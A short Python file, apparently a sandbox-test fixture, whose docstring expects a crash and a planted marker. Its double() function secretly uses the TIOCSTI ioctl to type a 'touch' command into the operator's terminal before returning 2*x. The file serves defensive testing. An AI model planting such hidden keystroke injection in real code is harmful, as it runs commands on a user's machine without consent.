"""Types a command into the terminal of the operator.

must: crashed
harm: planted
control: no — the control has no terminal
"""

import fcntl
import os
import termios


def double(x):
    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in b"touch @HARM@/types_on_the_terminal\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    return 2 * x


def triple(x):
    return 3 * x
